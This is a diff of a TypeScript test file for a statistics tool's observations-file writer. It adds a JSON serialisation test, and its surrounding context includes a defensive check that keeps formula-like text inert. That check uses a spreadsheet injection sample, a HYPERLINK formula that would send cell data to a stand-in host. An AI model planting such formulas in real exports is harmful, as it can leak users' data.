@@ -36,6 +36,21 @@ describe("observations file: valid files", () => {
     expect(JSON.stringify(r)).not.toMatch(/"request"|"sectors"/);
   });
 
+  it("is the same JSON as the plain serialisation, with one line per observation and the rest indented", () => {
+    const extra = { createdAt: new Date("2026-01-01T00:00:00Z"), request: { sectors: ["plan-miljo-kultur"], note: "line 1\nline 2 «» \u2028" }, missing: [{ indicator: "bibliotek", years: [2020], reason: { nb: "SSB svarte ikke.", en: "SSB did not answer." } }] };
+    const data = syntheticDataset();
+    const text = writeObservationsFile(data, extra);
+    const parsed = JSON.parse(text);
+    expect(Object.keys(parsed)).toEqual(["format", "version", "createdAt", "request", "missing", "provenance", "observations"]);
+    expect(parsed).toMatchObject({ createdAt: "2026-01-01T00:00:00.000Z", request: extra.request, missing: extra.missing, provenance: data.provenance, observations: data.observations });
+    const lines = text.split("\n");
+    data.observations.forEach((o, i) => expect(lines).toContain(`  ${JSON.stringify(o)}${i < data.observations.length - 1 ? "," : ""}`));
+    expect(lines[1]).toMatch(/^ "format": "/);
+    expect(text.endsWith("}\n")).toBe(true);
+    // An empty dataset still makes a file that reads back.
+    expect(JSON.parse(writeObservationsFile({ observations: [], provenance: [] }, extra)).observations).toEqual([]);
+  });
+
   it("makes text XML-safe and keeps formula-like text as plain strings", () => {
     const f = validFile();
     f.provenance[0] = { source: "ssb", table: "12362", query: '=HYPERLINK("http://x/?"&A2)\u0000', fetchedAt: "2026-01-01T00:00:00Z", updated: "2025-06-15T06:00:00Z", notes: ["@SUM(1)\uFFFE"] };
